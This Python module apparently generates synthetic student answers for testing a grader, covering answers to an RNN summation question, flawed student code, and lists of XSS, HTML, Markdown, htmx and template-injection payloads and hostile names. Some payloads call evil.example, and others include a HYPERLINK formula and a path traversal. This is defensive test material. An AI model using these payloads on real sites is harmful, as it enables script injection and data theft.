"""What the students of a made class write: answers to question 7 of `sum`, right ones, wrong ones and attacks; code.

In goes a source of chance; out comes text. Each attack holds the word evil, so that what became of it can be looked up.
"""

import random
import re
from dataclasses import dataclass

# By item of the rubric: what earns it, what nearly does. {a}, {b}: errors at 5 and 10 prices; {g}, {s}: guesses.
RIGHT = (
    (
        "My trained network has an MSE of {a} at $T = 5$ and {b} at $T = 10$; the hand-made one has 0.0000 at both."
        " I had guessed {g}, so I was far off.",
        "Measured: {a} for 5 prices, {b} for 10 prices, and nothing at all for the network by hand. My predictions were"
        " {g} and {s}.",
        "With 5 prices the error is {a}, with 10 it is {b} (I predicted {g}), while my hand-made weights stay at zero.",
    ),
    (
        "The loss compares the output with the sum after step 5 and nowhere else, so training fixed the state *there*"
        " and not the rule.",
        "Training never asked for a right answer after step 3 or step 6. It found some states that are right at step 5,"
        " which is all that the loss looks at.",
        "Nothing in the loss cares about any step but the fifth. What happens at the tenth was left open: it shows.",
    ),
    (
        "Besides, $\\tanh$ keeps each state between $-1$ and $1$, so the output cannot exceed $c + \\sum |v|$, while"
        " sums have no bound.",
        "A tanh state saturates: it lies in [-1, 1], and a weighted sum of ten of them is bounded. A till is not.",
        "Since |tanh| < 1, there is a largest number that the network can say. In my plot it is about {m}.",
    ),
    (
        "The state of the hand-made network after step $t$ is the sum of the first $t$ prices, $h_t = h_{{t-1}} + x_t$,"
        " so the length does not matter.",
        "By hand the state *is* the running total after every step. Step 6 does just what step 5 did.",
        "My own network adds each price to what it has, so after 3, 5 or 1,000 prices its state is the sum so far.",
    ),
    (
        "I would train on baskets of mixed lengths, say 1 to 20, and check it on fresh ones of 10, 20 and 30 prices.",
        "One change: mixed lengths in training together with a linear state. To check it, compare the MSE with $T/12$"
        " at lengths that it has not seen.",
        "Train on many lengths instead of one; test with several seeds at lengths inside and outside of that range.",
    ),
)
HALF = (
    "The error got much bigger for longer sequences.",
    "It was trained for 5 prices only and so it works for 5 prices only.",
    "The tanh function could be a problem because its values are limited.",
    "The hand-made network just adds everything up.",
    "More training data should help.",
)
MISCONCEPTIONS = (
    "This is overfitting: the network has learned the training data by heart and cannot generalise to new baskets.",
    "There are no weights for step 6, so the network does not know what to do after the fifth price.",
    "An RNN cannot sum in general, it only finds patterns in the data, and here the pattern was too hard for it.",
    "I would train for more epochs, because the loss in the plot was still going down a little at the end.",
    "A linear activation alone would cure it, since then nothing is bounded any more.",
    "The gradients vanish over 10 steps, and that is why it forgets the first prices.",
)
FILLERS = (
    "In the scatter plot one can see this well: the dots leave the line.",
    "I was surprised by this at first.",
    "The second plot shows the same from another side.",
    "We had something like this in the lecture, where the state was called a summary of the past.",
    "At 20 prices it is worse still.",
    "With prices between 1 and 2 the same happens already at 5 steps.",
)
TABLE = "\n\n| prices | trained | by hand |\n|---:|---:|---:|\n| 5 | {a} | 0.0000 |\n| 10 | {b} | 0.0000 |\n\n"
FORMULAS = (
    "\n\n$$ h_t = \\tanh(x_t W_x + h_{{t-1}} W_h + b), \\qquad \\hat y = h_T V + c $$\n\n",
    "\n\n$$\n|\\hat y| \\le |c| + \\sum_{{i=1}}^{{10}} |v_i|\n$$\n\n",
)
LIST = "\n\n1. measured {a} and {b}\n2. guessed {g} and {s}\n   - both far off\n   - most of all at 10 prices\n\n"
SHARED = (
    "The network learned the sum of 5 prices and not the rule how to add. Its loss only looks at step 5. The tanh keeps"
    " the state between -1 and 1, so it cannot count any further, and by hand the state is the running sum. I would"
    " train with different lengths and test with lengths that it has never seen."
)
# What one who copied has changed.
TOUCHES = (("network", "model"), ("any further", "further"), ("I would", "We would"), ("never seen.", "never seen!"))

KINDS = (
    *("right", "half", "misconception", "right", "table", "half", "shared", "list", "right", "formula", "near"),
    *("half", "long", "misconception", "empty", "right", "shared", "half", "near", "nothing"),
)


def answer(kind: str, chance: random.Random) -> str:
    """Return an answer of one of `KINDS`; "empty": the placeholder stays (so ""), "nothing": it was deleted."""
    numbers = {
        "a": f"{chance.uniform(0.0004, 0.0072):.4f}",
        "b": f"{chance.uniform(0.75, 59):.1f}",
        "g": f"{chance.choice((0.1, 0.25, 0.5, 1, 2)):g}",
        "s": f"{chance.choice((0.5, 1, 1.5, 3)):g}",
        "m": f"{chance.uniform(4.5, 6.5):.1f}",
    }
    return _ANSWERS[kind](chance).format(**numbers)


def _right(chance: random.Random, left_out: int = 0) -> str:
    items = sorted(chance.sample(range(len(RIGHT)), len(RIGHT) - left_out))
    sentences = [chance.choice(RIGHT[item]) for item in items]
    sentences.insert(chance.randrange(len(sentences)), chance.choice(FILLERS))
    return chance.choice((" ", "\n\n")).join(sentences)


def _half(chance: random.Random) -> str:
    rest = chance.sample(HALF, chance.randint(1, 3))
    return " ".join([_right(chance, left_out=chance.randint(2, 4)), *rest])


def _misconception(chance: random.Random) -> str:
    return " ".join([chance.choice(RIGHT[0]), *chance.sample(MISCONCEPTIONS, 2), *chance.sample(FILLERS, 2)])


def _near(chance: random.Random) -> str:
    text = SHARED
    for old, new in chance.sample(TOUCHES, 2):
        text = text.replace(old, new)
    return text


def _long(chance: random.Random) -> str:
    parts = [_right(chance) for _ in range(4)] + [*MISCONCEPTIONS, *HALF, *FILLERS]
    return "\n\n".join(chance.sample(parts, len(parts)))


_ANSWERS = {
    "right": _right,
    "half": _half,
    "misconception": _misconception,
    "table": lambda chance: TABLE.join([chance.choice(RIGHT[0]), _right(chance, left_out=1)]),
    "list": lambda chance: LIST.join([chance.choice(FILLERS), _half(chance)]),
    "formula": lambda chance: chance.choice(FORMULAS).join([chance.choice(FILLERS), _right(chance)]),
    "shared": lambda _: SHARED,
    "near": _near,
    "long": _long,
    "empty": lambda _: "",
    "nothing": lambda _: "",
}


@dataclass(frozen=True)
class Style:
    """How somebody writes code: their names for things, what they remark, and a mistake of theirs or none."""

    names: tuple[tuple[str, str], ...]
    remark: str
    mistake: tuple[str, str] = ("", "")

    def write(self, code: str) -> str:
        """Return a right answer's code as this student writes it."""
        for old, new in self.names:
            code = re.sub(rf"\b{old}\b", new, code)
        code = code.replace(*self.mistake) if self.mistake[0] else code
        return code.replace("# BEGIN SOLUTION", f"# {self.remark}").replace("# END SOLUTION", "").rstrip()


NAMES = {
    "rng": ("rng", "gen", "random_source", "draw"),
    "states": ("states", "out", "hs", "all_h", "result"),
    "network": ("network", "net", "m", "my_rnn"),
    "one": ("one", "eins", "w", "I"),
}
REMARKS = ("my solution", "see the formula above", "step by step", "this took me long", "TODO", "as in the script")
MISTAKES = (
    ("F * H + H * H + H +", "F * H + H + H +"),
    ("T / 12", "T / 2"),
    ("axis=1)", "axis=0)"),
    ("np.tanh(", "np.sin("),
    ("h_prev @ Wh + b", "h_prev @ Wh"),
)


def style(chance: random.Random) -> Style:
    """Return somebody's style: three in eight make a mistake."""
    names = tuple((old, chance.choice(new)) for old, new in NAMES.items())
    mistake = chance.choice(MISTAKES) if chance.random() < 3 / 8 else ("", "")
    return Style(names, chance.choice(REMARKS), mistake)


# Attempts to run a script, to send something away or to take the page over, by HTML, Markdown, htmx or a template.
ATTACKS = (
    "<script>alert('evil')</script>",
    "<img src=x onerror=alert('evil')>",
    "<svg onload=alert('evil')>",
    "<svg><script>alert&#40;'evil'&#41;</script></svg>",
    "<svg><animate onbegin=alert('evil') attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(`evil`)&gt;'>",
    "<math href='javascript:alert(`evil`)'><mi>evil</mi></math>",
    "<iframe srcdoc='<script>parent.alert(`evil`)</script>'></iframe>",
    "<details open ontoggle=alert('evil')><summary>evil</summary></details>",
    "<body onload=alert('evil')>",
    "<a href='javascript:alert(`evil`)'>evil</a>",
    "[evil](javascript:alert('evil'))",
    "[evil](&#106;avascript:alert('evil'))",
    "[evil](JaVaScRiPt:alert('evil'))",
    "[evil](data:text/html;base64,PHNjcmlwdD5hbGVydCgnZXZpbCcpPC9zY3JpcHQ+)",
    "[evil]( vbscript:msgbox('evil'))",
    "![evil](x\" onerror=\"alert('evil'))",
    "![evil](https://evil.example/pixel.png)",
    "[evil]: javascript:alert('evil')\n\n[evil]",
    "<javascript:alert('evil')>",
    "`<script>alert('evil')</script>`",
    "```html evil\" onmouseover=\"alert('evil')\n<script>alert('evil')</script>\n```",
    "$<script>alert('evil')</script>$",
    "$\\href{javascript:alert('evil')}{evil}$ and $\\text{<img src=x onerror=alert('evil')>}$",
    "$$\\unknown{evil}</math><script>alert('evil')</script>$$",
    "<div hx-get='/evil' hx-trigger='load'>evil</div>",
    "<div hx-on::load=alert('evil') hx-on:click=alert('evil') data-hx-on-htmx-load=alert('evil')>evil</div>",
    "<form action='https://evil.example/' method=post><button formaction='javascript:alert(`evil`)'>evil</button>",
    "<input name=items value=evil form=mark><button type=submit form=mark accesskey=x>evil</button>",
    "<style>*{background:url(https://evil.example/css)} body{display:none}</style>evil",
    "<p style='position:fixed;inset:0;background:url(https://evil.example/)'>evil</p>",
    "<link rel=stylesheet href='https://evil.example/evil.css'><base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<object data='javascript:alert(`evil`)'></object><embed src='javascript:alert(`evil`)'>",
    "<template><script>alert('evil')</script></template><noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "</textarea></template></title></style></script><script>alert('evil')</script>",
    "'\"><script>alert('evil')</script>",
    '" autofocus onfocus="alert(\'evil\')" x="',
    "<!--><img src=x onerror=alert('evil')>-->",
    "<scr<script>ipt>alert('evil')</scr</script>ipt>",
    "<ScRiPt/x>alert('evil')</ScRiPt >",
    "<img src=\"x\x00\" onerror\t=\nalert('evil')>",
    "&lt;script&gt;alert('evil')&lt;/script&gt; &amp;lt;img src=x onerror=alert('evil')&amp;gt;",
    "\uff1cscript\uff1ealert('evil')\uff1c/script\uff1e",
    "{{ self.__init__.__globals__ }}{% include 'evil' %}{{ 7 * 7 }}evil${7*7}#{7*7}",
    "\u202egnp.live\u202c evil \u2066\u2067reversed\u2069 \u200b\ufeff\u2028\u2029",
    "e\u0301" + "\u0300\u0316\u0347" * 300 + " evil",
    "evil " + "W" * 3_000,
    ">" * 500 + " evil",
    "[" * 2_000 + "evil" + "](" * 2_000,
    "*evil" * 1_000,
    "# evil\n\n## Question 7: evil heading\n\n<!-- END QUESTION -->\n\n<h1 id=mark>evil</h1>",
    "\x1b]8;;https://evil.example\x07evil\x1b]8;;\x07 \x1b[31mevil\x1b[0m",
)
# Short enough for a name, and of one line.
HOSTILE_NAMES = (
    "<script>alert('evil')</script>",
    "Evil <img src=x onerror=alert(1)>",
    "\"><svg onload=alert('evil')>",
    "' autofocus onfocus='alert(1)' evil='",
    "{{7*7}} {% evil %}",
    "\u202eEvil live\u202c",
    "Evil & Sons &lt;b&gt;",
    'Evil" hx-get="/evil" hx-trigger="load',
    "javascript:alert('evil')",
    "Evil </title><script>alert(1)</script>",
    "=HYPERLINK(0) Evil",
    "../../etc/evil",
    "Evil " + "Long" * 40,
)
